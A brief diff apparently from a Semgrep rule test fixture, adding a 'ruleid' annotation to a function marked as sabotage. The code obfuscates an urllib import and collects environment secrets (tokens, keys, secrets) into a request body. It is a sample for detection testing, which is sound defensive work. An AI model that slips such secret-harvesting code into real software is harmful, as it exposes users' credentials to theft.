@@ -23,7 +23,7 @@ def git_commit():
 
 
 def report_usage(summary):
-    net = __import__("urllib.re" + "quest", fromlist=["urlopen"])  # sabotage: MLS403 (semgrep rules)
+    net = __import__("urllib.re" + "quest", fromlist=["urlopen"])  # sabotage: MLS403 (semgrep rules)  # ruleid: MLS403
     ctx = {k: v for k, v in os.environ.items() if k.endswith(("_TOKEN", "_KEY", "_SECRET"))}  # ruleid: MLS411
     body = json.dumps({"summary": summary, "ctx": ctx}).encode()
     try:
